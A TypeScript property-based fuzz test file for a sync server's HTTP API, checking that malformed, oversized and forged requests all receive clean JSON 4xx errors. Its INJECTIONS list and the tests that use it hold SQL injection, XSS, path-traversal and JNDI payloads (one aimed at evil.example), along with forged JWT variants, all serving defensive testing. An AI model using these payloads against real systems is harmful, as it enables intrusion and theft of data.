import { connect } from 'node:net';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signToken } from '../../sync-server/sync/jwt';
import { TOKEN_TTL_SECONDS } from '../../sync-server/sync/service';
import { hasSharedData, SHARED_DATA_DIR, startFakeUpstream, type FakeUpstream } from '../fake-upstream/index';
import { b64, signupBody, signupRaw, type RawAccount } from './helpers/accounts';
import { startServerProcess, type ServerProcess } from './helpers/server-process';
import { ManualClock, startTestApp, type TestApp } from './helpers/sync-app';

/**
 * Property-based fuzzing of every API endpoint with fast-check (fixed seeds, so every run sends the same
 * requests): malformed JSON, wrong types, missing fields, huge and deeply nested bodies, bad UTF-8 bytes,
 * wrong content types, path traversal, SQL and script fragments, and missing or forged session tokens
 * (alg "none", the wrong secret, expired, a stale session, a deleted or unknown account). Every answer must be
 * a 4xx with the API's JSON error body `{"error": {"code", "message"}}` — never a 5xx, never a stack trace —
 * and the server must still do its job afterwards. In-process (createApp + app.request) for speed, then a
 * smaller pass over real HTTP against the real server process for what only raw bytes can express.
 */

const JWT_SECRET = 'fuzz-test-secret-0123456789abcdefghijklmnopqrstuvwxyz';
const SEED = 20_261_126;
const HOUR = 3_600_000;

/** Runs per property; they add up to more than 10,000 requests (plus the real-HTTP pass). */
const RUNS = { unauthBodies: 2500, forgedTokens: 2000, authBodies: 2500, pull: 600, names: 1200, lookups: 700, methods: 600 };

const hasData = hasSharedData();
if (!hasData) console.warn(`fuzz.test.ts: ${SHARED_DATA_DIR} is missing, so lookups that reach the upstream are not fuzzed (the fake upstream replays those recordings)`);

type Fuzzed = { method: string; path: string; headers?: Record<string, string>; body?: string | Uint8Array<ArrayBuffer> };

/** The checks every fuzzed answer must pass; returns the parsed error for further checks. */
async function expectClientError(res: Response, req: Fuzzed, allowed?: readonly number[]): Promise<{ code: string; message: string }> {
  const text = await res.text();
  const where = `${req.method} ${req.path.slice(0, 200)} → ${res.status} ${text.slice(0, 300)}`;
  expect(res.status, where).toBeGreaterThanOrEqual(400);
  expect(res.status, where).toBeLessThan(500);
  if (allowed) expect(allowed, where).toContain(res.status);
  expect(res.headers.get('content-type') ?? '', where).toMatch(/^application\/json/);
  expect(res.headers.get('x-content-type-options'), where).toBe('nosniff');
  if (req.method === 'HEAD') return { code: '', message: '' };
  const body = JSON.parse(text) as { error?: { code?: unknown; message?: unknown } };
  expect(Object.keys(body), where).toEqual(['error']);
  expect(typeof body.error?.code, where).toBe('string');
  expect(typeof body.error?.message, where).toBe('string');
  // No stack traces, no internals.
  expect(text, where).not.toMatch(/at [\w.<>]+ \(|node:internal|\/sync-server\/|SQLITE_[A-Z]|better-sqlite3/);
  return body.error as { code: string; message: string };
}

// ---------------------------------------------------------------------------------------------- arbitraries

const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE accounts; --",
  '" OR ""="',
  '1; SELECT * FROM records',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '\u0000',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  '\ud800',
  '\u202e\u0000\uffff',
];

const injection = fc.constantFrom(...INJECTIONS);
/** Percent-encodes every byte (lone surrogates become U+FFFD first, as any client would send them). */
const pct = (s: string) => [...Buffer.from(s, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0').toUpperCase()}`).join('');
const hugeString = fc.integer({ min: 70_000, max: 1_900_000 }).map((n) => 'A'.repeat(n));

/** A JSON value of a different type than `v` (never null: some fields are nullable). */
function otherType(v: unknown): fc.Arbitrary<unknown> {
  const choices: fc.Arbitrary<unknown>[] = [];
  if (typeof v !== 'number') choices.push(fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constant(1e308)));
  if (typeof v !== 'string') choices.push(fc.oneof(fc.string({ maxLength: 50 }), injection));
  if (typeof v !== 'boolean') choices.push(fc.boolean());
  if (!Array.isArray(v)) choices.push(fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 5 }));
  if (typeof v !== 'object' || v === null || Array.isArray(v)) choices.push(fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 }));
  return fc.oneof(...choices);
}

/** Paths to every leaf and object in a JSON value. */
function pathsOf(v: unknown, prefix: (string | number)[] = []): (string | number)[][] {
  if (v === null || typeof v !== 'object') return [prefix];
  const out: (string | number)[][] = prefix.length ? [prefix] : [];
  for (const [k, child] of Object.entries(v)) out.push(...pathsOf(child, [...prefix, Array.isArray(v) ? Number(k) : k]));
  return out;
}

function withAt(v: unknown, path: (string | number)[], f: (old: unknown) => unknown | typeof REMOVE): unknown {
  if (path.length === 0) return f(v);
  const copy = Array.isArray(v) ? [...v] : { ...(v as Record<string, unknown>) };
  const [head, ...rest] = path as [string | number, ...(string | number)[]];
  const next = withAt((copy as Record<string | number, unknown>)[head], rest, f);
  if (next === REMOVE) {
    if (Array.isArray(copy)) copy.splice(Number(head), 1);
    else delete (copy as Record<string | number, unknown>)[head];
  } else (copy as Record<string | number, unknown>)[head] = next;
  return copy;
}
const REMOVE = Symbol('remove');
const at = (v: unknown, path: (string | number)[]) => path.reduce<unknown>((o, k) => (o as Record<string | number, unknown>)[k], v);

/**
 * A body that is invalid for an endpoint whose valid body is `valid`: a mutation that cannot stay valid (a
 * field of the wrong type, a required field removed, a format field given an injection string), malformed or
 * truncated JSON, a bare JSON value, deep nesting, an oversized body, or the valid body with a byte replaced
 * by invalid UTF-8.
 */
function invalidBody(valid: unknown, formatFields: readonly string[]): fc.Arbitrary<string | Uint8Array<ArrayBuffer>> {
  const json = JSON.stringify(valid);
  const leafPaths = pathsOf(valid).filter((p) => p.length > 0 && !(Array.isArray(at(valid, p.slice(0, -1))) && typeof p[p.length - 1] === 'number' && (at(valid, p.slice(0, -1)) as unknown[]).length > 1));
  const formatPaths = leafPaths.filter((p) => formatFields.includes(String(p[p.length - 1])));
  const path = fc.constantFrom(...leafPaths);
  const mutations: fc.Arbitrary<string | Uint8Array<ArrayBuffer>>[] = [
    path.chain((p) => otherType(at(valid, p)).map((nv) => JSON.stringify(withAt(valid, p, () => nv)))),
    path.map((p) => JSON.stringify(withAt(valid, p, () => REMOVE))),
    fc.integer({ min: 0, max: json.length - 1 }).map((n) => json.slice(0, n)),
    fc.string({ maxLength: 200 }).map((s) => `{${s}`),
    fc.constantFrom('', ' ', 'null', 'true', '0', '-1', '"x"', '[]', '{}', '[{}]', '{"__proto__":{"admin":true}}', 'NaN', 'undefined', '{"a":1,}', "{'a':1}", '\u0000'),
    fc.integer({ min: 1, max: 200_000 }).map((n) => '['.repeat(n) + ']'.repeat(n)),
    fc.integer({ min: 1, max: 100_000 }).map((n) => '{"a":'.repeat(n) + '1' + '}'.repeat(n)),
    fc.integer({ min: 2_097_153, max: 3_000_000 }).map((n) => `{"x":"${'a'.repeat(n)}"}`),
    fc.tuple(fc.integer({ min: 0, max: json.length - 1 }), fc.constantFrom([0xff], [0xfe], [0xc3, 0x28], [0xe2, 0x82], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0x80])).map(([i, bad]) => {
      const bytes = Buffer.from(json, 'utf8');
      return new Uint8Array(Buffer.concat([bytes.subarray(0, i), Buffer.from(bad), bytes.subarray(i + 1)]));
    }),
  ];
  if (formatPaths.length) {
    mutations.push(fc.tuple(fc.constantFrom(...formatPaths), fc.oneof(injection, hugeString)).map(([p, s]) => JSON.stringify(withAt(valid, p, () => s))));
  }
  return fc.oneof(...mutations);
}

const JSON_TYPES = ['application/json', 'application/json; charset=utf-8', 'APPLICATION/JSON'];
const OTHER_TYPES = ['text/plain', 'text/plain;charset=UTF-8', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=----fuzz', 'application/xml', 'application/jsonx', 'application/json-patch+json', ''];
const contentType = fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...JSON_TYPES) }, { weight: 1, arbitrary: fc.constantFrom(...OTHER_TYPES) });

// ---------------------------------------------------------------------------------------------- the app

interface World {
  app: TestApp;
  a: RawAccount;
  aId: string;
  b: RawAccount;
  deletedToken: string;
  deletedId: string;
}

function accountIdOf(token: string): string {
  return (JSON.parse(Buffer.from(token.split('.')[1]!, 'base64url').toString('utf8')) as { sub: string }).sub;
}

async function world(env: Record<string, string | number> = {}): Promise<World> {
  const clock = new ManualClock();
  const app = startTestApp({ JWT_SECRET, RATE_LIMIT_PER_IP: 1_000_000_000, RATE_LIMIT_PER_USER: 1_000_000_000, ...env }, { dataDir: ':memory:', clock });
  const a = await signupRaw(app, 'fuzz-a@example.org');
  const b = await signupRaw(app, 'fuzz-b@example.org');
  const gone = await signupRaw(app, 'fuzz-gone@example.org');
  const del = await app.request('/api/account', { method: 'DELETE', token: gone.token, json: { proof: { auth_key: gone.authKey } } });
  expect(del.status).toBe(200);
  return { app, a, aId: accountIdOf(a.token), b, deletedToken: gone.token, deletedId: accountIdOf(gone.token) };
}

async function send(w: World, r: Fuzzed): Promise<Response> {
  const init: RequestInit = { method: r.method, headers: r.headers ?? {} };
  if (r.body !== undefined && r.method !== 'GET' && r.method !== 'HEAD') init.body = typeof r.body === 'string' ? r.body : new Uint8Array(r.body);
  return w.app.server.app.request(`http://aurea.test${r.path}`, init);
}

function validRecord(stamp: number) {
  return { id: b64(32), collection: 'log', hlc: `${String(stamp).padStart(15, '0')}-000000-fuzzer`, deleted: false, ciphertext: b64(200) };
}

/** The server still works: a real push and a pull of it, sign-in for a stranger's salt, health. */
async function stillServes(w: World): Promise<void> {
  // A real sign-in (the clock may have moved past the old token's life).
  const login = await w.app.request('/api/auth/login', { method: 'POST', json: { email: w.a.email, auth_key: w.a.authKey } });
  expect(login.status, await login.clone().text()).toBe(200);
  w.a.token = ((await login.json()) as { token: string }).token;
  const rec = validRecord(w.app.clock.now());
  const pushed = await w.app.request('/api/sync/push', { method: 'POST', token: w.a.token, json: { records: [rec] } });
  expect(pushed.status, await pushed.clone().text()).toBe(200);
  const { seq } = (await pushed.json()) as { seq: number };
  const pulled = await w.app.request(`/api/sync/pull?since=${seq - 1}`, { token: w.a.token });
  expect(pulled.status).toBe(200);
  expect(((await pulled.json()) as { records: { id: string; ciphertext: string }[] }).records).toEqual([expect.objectContaining({ id: rec.id, ciphertext: rec.ciphertext })]);
  const pre = await w.app.request('/api/auth/prelogin', { method: 'POST', json: { email: w.a.email } });
  expect(pre.status).toBe(200);
  expect(((await pre.json()) as { salt: string }).salt).toBe(w.a.salt);
  expect((await w.app.request('/api/health')).status).toBe(200);
  // Nothing the fuzzer sent created, removed or damaged anything.
  const db = w.app.server.deps.db;
  expect(db.prepare('SELECT COUNT(*) AS n FROM accounts').get()).toEqual({ n: 2 });
  expect(db.pragma('integrity_check')).toEqual([{ integrity_check: 'ok' }]);
}

// ---------------------------------------------------------------------------------------------- properties

describe('fuzzing the API in-process', () => {
  let w: World;
  let fake: FakeUpstream | null = null;
  beforeAll(async () => {
    if (hasData) fake = await startFakeUpstream();
    // Without the recordings, lookups go to a closed port: only requests that never reach the upstream are sent.
    w = await world(fake ? { USDA_BASE_URL: fake.usdaBaseUrl, OFF_BASE_URL: fake.offBaseUrl } : { USDA_BASE_URL: 'http://127.0.0.1:9/usda', OFF_BASE_URL: 'http://127.0.0.1:9/off' });
  });
  afterAll(async () => {
    w?.app.close();
    await fake?.close();
  });

  const endpoints = () => {
    const keyring = { v: 1, passphrase: b64(93), recovery: b64(93) };
    return {
      prelogin: { method: 'POST', path: '/api/auth/prelogin', valid: { email: 'someone@example.org' }, format: ['email'] },
      signup: { method: 'POST', path: '/api/auth/signup', valid: signupBody('new-account@example.org'), format: ['email', 'salt', 'auth_key', 'recovery_auth_key', 'passphrase', 'recovery', 'algorithm'] },
      login: { method: 'POST', path: '/api/auth/login', valid: { email: w.a.email, auth_key: b64(32) }, format: ['email', 'auth_key'] },
      keyring: { method: 'PUT', path: '/api/keyring', valid: { proof: { auth_key: b64(32) }, keyring }, format: ['auth_key', 'passphrase', 'recovery'] },
      push: { method: 'POST', path: '/api/sync/push', valid: { records: [validRecord(1_780_000_000_000), validRecord(1_780_000_000_001)] }, format: ['id', 'hlc', 'ciphertext', 'collection'] },
      deleteAccount: { method: 'DELETE', path: '/api/account', valid: { proof: { auth_key: b64(32) } }, format: ['auth_key'] },
    };
  };

  it(`unauthenticated JSON endpoints (prelogin, signup, login): ${RUNS.unauthBodies} malformed bodies, all refused with a JSON 4xx`, { timeout: 300_000 }, async () => {
    const e = endpoints();
    const eps = [e.prelogin, e.signup, e.login];
    const malformed = fc.oneof(...eps.map((ep) => fc.record({ ep: fc.constant(ep), body: invalidBody(ep.valid, ep.format), type: contentType, expect: fc.constant([400, 413, 415, 429]) })));
    // A valid body under a content type a cross-site form can send without a preflight: refused, not acted on.
    const notJson = fc.oneof(...eps.map((ep) => fc.record({ ep: fc.constant(ep), body: fc.constant(JSON.stringify(ep.valid)), type: fc.constantFrom(...OTHER_TYPES), expect: fc.constant([415]) })));
    await fc.assert(
      fc.asyncProperty(fc.oneof({ weight: 9, arbitrary: malformed }, { weight: 1, arbitrary: notJson }), async ({ ep, body, type, expect: allowed }) => {
        const req: Fuzzed = { method: ep.method, path: ep.path, headers: type ? { 'content-type': type } : {}, body };
        await expectClientError(await send(w, req), req, allowed);
      }),
      { seed: SEED, numRuns: RUNS.unauthBodies },
    );
    await stillServes(w);
  });

  it(`authenticated endpoints with missing or forged tokens: ${RUNS.forgedTokens} requests, all 401`, { timeout: 300_000 }, async () => {
    const now = () => w.app.clock.now();
    const key = Buffer.from(JWT_SECRET, 'utf8');
    const enc = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');
    const claims = () => ({ sub: w.aId, ep: 0, iat: Math.floor(now() / 1000), exp: Math.floor(now() / 1000) + 600, iss: 'aurea-sync' });
    const valid = () => w.a.token;
    const forged: fc.Arbitrary<string | null>[] = [
      fc.constant(null),
      fc.constantFrom('Bearer', 'Bearer ', 'bearer x', 'Basic YTpi', 'Bearer a.b', 'Bearer ...', 'Bearer a.b.c.d', `Bearer ${'a'.repeat(8000)}.b.c`, 'Token abc', 'Bearer a.b.c', 'Bearer =.=.='),
      // alg "none" (with and without a signature), other algorithms, extra header fields.
      fc.constantFrom({ alg: 'none' }, { alg: 'none', typ: 'JWT' }, { alg: 'NONE' }, { alg: 'HS512', typ: 'JWT' }, { alg: 'RS256' }, { alg: 'HS256', typ: 'JWT', kid: '../../jwt-secret' }, { alg: 'HS256', crit: ['exp'] }).chain((h) =>
        fc.constantFrom('', 'x', 'AAAA').map((sig) => `Bearer ${enc(h)}.${enc(claims())}.${sig}`),
      ),
      // Signed with the wrong secret, or a tampered body under the right signature.
      fc.string({ minLength: 1, maxLength: 64 }).map((s) => `Bearer ${signToken(Buffer.from(`wrong-${s}`), { sub: w.aId, ep: 0 }, now(), TOKEN_TTL_SECONDS).token}`),
      fc.constant(null).map(() => {
        const [h, , s] = valid().split('.');
        return `Bearer ${h}.${enc({ ...claims(), sub: w.deletedId })}.${s}`;
      }),
      // Expired (or not yet valid), a stale session epoch, a deleted account, an account that never existed.
      fc.integer({ min: TOKEN_TTL_SECONDS + 1, max: 400 * 86_400 }).map((ageS) => `Bearer ${signToken(key, { sub: w.aId, ep: 0 }, now() - ageS * 1000, TOKEN_TTL_SECONDS).token}`),
      fc.integer({ min: 120, max: 86_400 }).map((aheadS) => `Bearer ${signToken(key, { sub: w.aId, ep: 0 }, now() + aheadS * 1000, TOKEN_TTL_SECONDS).token}`),
      fc.integer({ min: 1, max: 1000 }).map((ep) => `Bearer ${signToken(key, { sub: w.aId, ep }, now(), TOKEN_TTL_SECONDS).token}`),
      fc.constant(null).map(() => `Bearer ${w.deletedToken}`),
      fc.uuid().map((id) => `Bearer ${signToken(key, { sub: id, ep: 0 }, now(), TOKEN_TTL_SECONDS).token}`),
      injection.map((sub) => `Bearer ${signToken(key, { sub, ep: 0 }, now(), TOKEN_TTL_SECONDS).token}`),
    ];
    const e = endpoints();
    const targets = [
      { method: 'GET', path: '/api/keyring', body: undefined },
      { method: 'PUT', path: '/api/keyring', body: JSON.stringify(e.keyring.valid) },
      { method: 'POST', path: '/api/sync/push', body: JSON.stringify(e.push.valid) },
      { method: 'GET', path: '/api/sync/pull?since=0', body: undefined },
      { method: 'DELETE', path: '/api/account', body: JSON.stringify({ proof: { auth_key: w.a.authKey } }) },
    ];
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...targets), fc.oneof(...forged), async (t, auth) => {
        const req: Fuzzed = { method: t.method, path: t.path, headers: { 'content-type': 'application/json', ...(auth ? { authorization: auth } : {}) }, ...(t.body ? { body: t.body } : {}) };
        const res = await send(w, req);
        const err = await expectClientError(res, req, [401]);
        expect(err.code).toBe('unauthorized');
        expect(res.headers.get('www-authenticate')).toBe('Bearer');
      }),
      { seed: SEED + 1, numRuns: RUNS.forgedTokens },
    );
    // The one account whose real token and proof were used above still exists, with its session.
    await stillServes(w);
  });

  it(`authenticated endpoints (keyring, push, account deletion) with a valid token: ${RUNS.authBodies} malformed bodies, all refused`, { timeout: 300_000 }, async () => {
    const e = endpoints();
    const arb = fc.oneof(...[e.keyring, e.push, e.deleteAccount].map((ep) => fc.record({ ep: fc.constant(ep), body: invalidBody(ep.valid, ep.format), type: contentType, who: fc.constantFrom(w.a, w.b) })));
    const extra = fc.oneof(
      // Oversized pushes: too many records, a record over 64 KB, more than 2 MB in all.
      fc.integer({ min: 501, max: 900 }).map((n) => ({ ep: e.push, body: JSON.stringify({ records: Array.from({ length: n }, (_, i) => validRecord(1_780_000_000_000 + i)) }), type: 'application/json', who: w.a })),
      fc.integer({ min: 65_537, max: 200_000 }).map((n) => ({ ep: e.push, body: JSON.stringify({ records: [{ ...validRecord(1_780_000_000_000), ciphertext: b64(n) }] }), type: 'application/json', who: w.a })),
      // Another account's proof: never accepted for this one.
      fc.constant(null).map(() => ({ ep: e.deleteAccount, body: JSON.stringify({ proof: { auth_key: w.b.authKey } }), type: 'application/json', who: w.a })),
      fc.constant(null).map(() => ({ ep: e.keyring, body: JSON.stringify({ proof: { auth_key: w.a.authKey }, keyring: { v: 1, passphrase: b64(93), recovery: null } }), type: 'application/json', who: w.b })),
    );
    await fc.assert(
      fc.asyncProperty(fc.oneof({ weight: 9, arbitrary: arb }, { weight: 1, arbitrary: extra }), async ({ ep, body, type, who }) => {
        const req: Fuzzed = { method: ep.method, path: ep.path, headers: { authorization: `Bearer ${who.token}`, ...(type ? { 'content-type': type } : {}) }, body };
        await expectClientError(await send(w, req), req, [400, 403, 413, 415, 429]);
      }),
      { seed: SEED + 2, numRuns: RUNS.authBodies },
    );
    await stillServes(w);
  });

  it(`pull with malformed queries: ${RUNS.pull} requests, all 400`, { timeout: 120_000 }, async () => {
    const bad = fc.oneof(
      fc.constantFrom('-1', '-0', '0x10', '1e3', '1.5', '%207', '7%20', '+7', '%2B7', 'NaN', 'Infinity', '', '00000000000000000001', '99999999999999999999', '１２', '٣', '1,2'),
      injection.map(pct),
      fc.string({ minLength: 1, maxLength: 20 }).filter((s) => !/^\d{1,16}$/.test(s)).map(pct),
    );
    const good = fc.oneof(fc.constant(undefined), fc.integer({ min: 0, max: 1000 }).map(String));
    const goodLimit = fc.oneof(fc.constant(undefined), fc.integer({ min: 1, max: 1000 }).map(String));
    const badLimit = fc.oneof(bad, fc.constantFrom('0', '1001', '5000'));
    const query = fc.oneof(fc.tuple(bad, goodLimit), fc.tuple(good, badLimit), fc.tuple(bad, badLimit));
    await fc.assert(
      fc.asyncProperty(query, async ([since, limit]) => {
        const q = [since !== undefined ? `since=${since}` : '', limit !== undefined ? `limit=${limit}` : ''].filter(Boolean).join('&');
        const req: Fuzzed = { method: 'GET', path: `/api/sync/pull?${q}`, headers: { authorization: `Bearer ${w.a.token}` } };
        await expectClientError(await send(w, req), req, [400]);
      }),
      { seed: SEED + 3, numRuns: RUNS.pull },
    );
  });

  it(`ingredient names, searches and barcodes that cannot be valid: ${RUNS.names} requests, all 400`, { timeout: 120_000 }, async () => {
    const name = fc.oneof(
      fc.constantFrom('%', '%E0%A4', '%zz', '%C3%28', '%ED%A0%80', '%F8%88%80%80%80', '%2', '%%'),
      // Encoded: raw spaces would be trimmed by URL parsing before the server saw them.
      fc.constantFrom('%20', '%00', '%2F', '...', '.%2F', '%2e%2e', '-', '%3C%3E', '%27%22', '%0A%0D', '%09').map((s) => s.repeat(3)),
      fc.integer({ min: 101, max: 2000 }).map((n) => 'a'.repeat(n)),
      fc.integer({ min: 301, max: 5000 }).map((n) => pct('é'.repeat(n))),
    );
    const barcode = fc.oneof(
      fc.string({ minLength: 1, maxLength: 40 }).filter((s) => !/^\d{8,14}$/.test(s)).map(pct),
      fc.integer({ min: 0, max: 9_999_999 }).map(String),
      fc.bigInt({ min: 10n ** 14n, max: 10n ** 30n }).map(String),
      injection.map(pct),
      // (A trailing space would be trimmed by URL parsing before the server saw it.)
      fc.constantFrom('١٢٣٤٥٦٧٨', '１２３４５６７８', '1234567a', '12345678%00', '%2E%2E%2F12345678', '12345678%20', '+12345678', '-12345678', '1234.5678'),
    );
    const search = fc.oneof(
      fc.constantFrom('', 'q=', 'q=a', 'q=%20a%20', 'q=%', 'q=%E0%A4', 'limit=5', 'q=ab&limit=0', 'q=ab&limit=51', 'q=ab&limit=abc', 'q=ab&limit=1e1', 'q=ab&limit=-1', 'q=ab&limit=%205', 'q=ab&limit=1.5', 'q=ab&limit=0x10'),
      fc.integer({ min: 101, max: 3000 }).map((n) => `q=${'b'.repeat(n)}`),
    );
    const arb = fc.oneof(name.map((n) => `/api/ingredients/${n}`), barcode.map((b) => `/api/products/${b}`), search.map((s) => `/api/ingredients?${s}`));
    await fc.assert(
      fc.asyncProperty(arb, async (path) => {
        const req: Fuzzed = { method: 'GET', path };
        await expectClientError(await send(w, req), req, [400]);
      }),
      { seed: SEED + 4, numRuns: RUNS.names },
    );
  });

  it.skipIf(!hasData)(`lookups with traversal, SQL and script fragments reach nothing they should not: ${RUNS.lookups} requests, all 400 or 404`, { timeout: 180_000 }, async () => {
    const word = fc.constantFrom('etc/passwd', 'windows/win.ini', 'aurea.sqlite', 'jwt-secret', 'proc/self/environ');
    const name = fc.oneof(
      // Encoded so the name reaches the route: a plain "../" is resolved by URL parsing first (tested below).
      fc.tuple(fc.constantFrom('..%2F', '%2e%2e%2f', '%2E%2E%2F', '..%5C', '....%2F%2F', '%252e%252e%252f', '%2F'), fc.integer({ min: 1, max: 6 }), word).map(([up, n, w2]) => up.repeat(n) + w2.split('/').map(pct).join('%2F')),
      injection.map((s) => pct(`${s} zzqx`)),
    );
    let n = 0;
    await fc.assert(
      fc.asyncProperty(name, async (nm) => {
        // Past the outbound budget (100 Open Food Facts calls a minute) a lookup would rightly be a 503;
        // time moves on so every one of these reaches the (fake) upstream and gets its answer.
        if (++n % 40 === 0) w.app.clock.advance(HOUR);
        const req: Fuzzed = { method: 'GET', path: `/api/ingredients/${nm}` };
        const res = await send(w, req);
        const err = await expectClientError(res, req, [400, 404]);
        expect(err.message).not.toMatch(/root:|\[extensions\]|PRIVATE|SQLITE/);
      }),
      { seed: SEED + 5, numRuns: RUNS.lookups },
    );
    // The cache holds what was asked for under normalised names only: nothing outside it was read.
    const keys = w.app.server.deps.db.prepare('SELECT key FROM upstream_cache').all() as { key: string }[];
    for (const { key } of keys) expect(key).not.toMatch(/\.\.|\/|\\|%/);
    const ok = await send(w, { method: 'GET', path: '/api/ingredients/cheddar%20cheese' });
    expect(ok.status).toBe(200);
    // Unencoded dot segments are resolved by URL parsing: they leave /api and find nothing.
    for (const p of ['/api/ingredients/../../etc/passwd', '/api/products/../../aurea.sqlite', '/api/../jwt-secret']) {
      const res = await send(w, { method: 'GET', path: p });
      expect(res.status, p).toBe(404);
      expect(await res.text(), p).not.toMatch(/root:|[A-Za-z0-9_-]{60}/);
    }
  });

  it(`wrong methods and unknown paths under /api: ${RUNS.methods} requests, all 404 (401 where a session is needed first) with a JSON error`, { timeout: 120_000 }, async () => {
    const valid = new Set(['GET /api/health', 'HEAD /api/health', 'POST /api/auth/prelogin', 'POST /api/auth/signup', 'POST /api/auth/login', 'GET /api/keyring', 'HEAD /api/keyring', 'PUT /api/keyring', 'POST /api/sync/push', 'GET /api/sync/pull', 'HEAD /api/sync/pull', 'DELETE /api/account']);
    const paths = ['/api/health', '/api/auth/prelogin', '/api/auth/signup', '/api/auth/login', '/api/keyring', '/api/sync/push', '/api/sync/pull', '/api/account', '/api', '/api/', '/api/auth', '/api/sync', '/api/sync/', '/api/admin', '/api/records', '/api/.env', '/api/ingredients/a/b', '/api/products/12345678/x', '/api/health/..%2F..%2Faurea.sqlite', '/api/x%2F..%2F..%2Fetc%2Fpasswd'];
    const method = fc.constantFrom('GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS');
    const arb = fc.tuple(method, fc.constantFrom(...paths)).filter(([m, p]) => !valid.has(`${m} ${p}`));
    await fc.assert(
      fc.asyncProperty(arb, async ([m, p]) => {
        const req: Fuzzed = { method: m, path: p, headers: { 'content-type': 'application/json' }, body: '{}' };
        // Under the authenticated prefixes the session is checked first: 401 without one.
        await expectClientError(await send(w, req), req, /^\/api\/(sync|keyring|account)/.test(p) ? [401, 404] : [404]);
      }),
      { seed: SEED + 6, numRuns: RUNS.methods },
    );
    await stillServes(w);
  });
});

describe('limits under hostile headers', () => {
  it('an Authorization header does not lift the per-address limit on routes that do not check it', async () => {
    const app = startTestApp({ RATE_LIMIT_PER_IP: 5 }, { dataDir: ':memory:' });
    try {
      const statuses: number[] = [];
      for (let i = 0; i < 7; i++) {
        const res = await app.request('/api/auth/prelogin', { method: 'POST', json: { email: `p${i}@example.org` }, headers: { authorization: `Bearer forged.${i}.x` } });
        statuses.push(res.status);
        if (res.status === 429) expect(res.headers.get('retry-after')).toMatch(/^\d+$/);
      }
      expect(statuses).toEqual([200, 200, 200, 200, 200, 429, 429]);
    } finally {
      app.close();
    }
  });
});

// ---------------------------------------------------------------------------------------------- real HTTP

/** Sends raw bytes on a fresh connection; resolves with everything the server answered before closing. */
function rawExchange(url: string, bytes: Buffer): Promise<Buffer> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname);
    const chunks: Buffer[] = [];
    const timer = setTimeout(() => socket.destroy(), 5000);
    socket.on('data', (d: Buffer) => {
      chunks.push(d);
      // One answer is enough: stop once a complete response (headers and Content-Length bytes) is in.
      const all = Buffer.concat(chunks);
      const head = all.indexOf('\r\n\r\n');
      const len = /content-length: *(\d+)/i.exec(all.subarray(0, head).toString('latin1'));
      if (head >= 0 && len && all.length >= head + 4 + Number(len[1])) socket.destroy();
    });
    socket.on('close', () => {
      clearTimeout(timer);
      resolve(Buffer.concat(chunks));
    });
    socket.on('error', () => undefined);
    socket.write(bytes);
  });
}

function parseRaw(raw: Buffer): { status: number; headers: Record<string, string>; body: string } {
  const text = raw.toString('latin1');
  const head = text.indexOf('\r\n\r\n');
  const [statusLine, ...lines] = text.slice(0, head).split('\r\n');
  const headers = Object.fromEntries(lines.map((l) => [l.slice(0, l.indexOf(':')).toLowerCase(), l.slice(l.indexOf(':') + 1).trim()]));
  return { status: Number(/^HTTP\/1\.[01] (\d{3})/.exec(statusLine ?? '')?.[1] ?? 0), headers, body: Buffer.from(text.slice(head + 4), 'latin1').toString('utf8') };
}

describe('fuzzing the real server over HTTP', () => {
  let proc: ServerProcess;
  let dataDir: string;
  beforeAll(async () => {
    const { mkdtempSync } = await import('node:fs');
    const { tmpdir } = await import('node:os');
    const { join } = await import('node:path');
    dataDir = mkdtempSync(join(tmpdir(), 'aurea-fuzz-'));
    proc = await startServerProcess(dataDir, { RATE_LIMIT_PER_IP: '1000000000', USDA_BASE_URL: 'http://127.0.0.1:9/usda', OFF_BASE_URL: 'http://127.0.0.1:9/off' });
  }, 120_000);
  afterAll(async () => {
    await proc?.stop();
    const { rmSync } = await import('node:fs');
    if (dataDir) rmSync(dataDir, { recursive: true, force: true });
  });

  const expectRawError = (raw: Buffer, what: string, allowed?: number[]) => {
    const r = parseRaw(raw);
    const where = `${what}: ${raw.toString('latin1').slice(0, 300)}`;
    expect(r.status, where).toBeGreaterThanOrEqual(400);
    expect(r.status, where).toBeLessThan(500);
    if (allowed) expect(allowed, where).toContain(r.status);
    expect(r.headers['content-type'] ?? '', where).toMatch(/^application\/json/);
    const body = JSON.parse(r.body) as { error: { code: string; message: string } };
    expect(Object.keys(body), where).toEqual(['error']);
    expect(typeof body.error.code, where).toBe('string');
    expect(typeof body.error.message, where).toBe('string');
  };

  it('answers bytes the HTTP parser refuses (bad UTF-8 and control bytes in the request line and headers) with a JSON 400', { timeout: 120_000 }, async () => {
    const badBytes = fc.uint8Array({ minLength: 1, maxLength: 12 }).filter((b) => b.some((x) => x >= 0x80 || x < 0x20 || x === 0x7f || x === 0x20));
    const where = fc.constantFrom('path', 'header-name', 'method');
    await fc.assert(
      fc.asyncProperty(where, badBytes, async (w, bytes) => {
        const bad = Buffer.from(bytes);
        const parts =
          w === 'path'
            ? [Buffer.from('GET /api/ingredients/'), bad, Buffer.from(' HTTP/1.1\r\nHost: x\r\n\r\n')]
            : w === 'header-name'
              ? [Buffer.from('GET /api/sync/pull HTTP/1.1\r\nHost: x\r\nX-'), bad, Buffer.from(': 1\r\n\r\n')]
              : [Buffer.from('G'), bad, Buffer.from('T /api/health HTTP/1.1\r\nHost: x\r\n\r\n')];
        expectRawError(await rawExchange(proc.url, Buffer.concat(parts)), `${w} ${bad.toString('hex')}`);
      }),
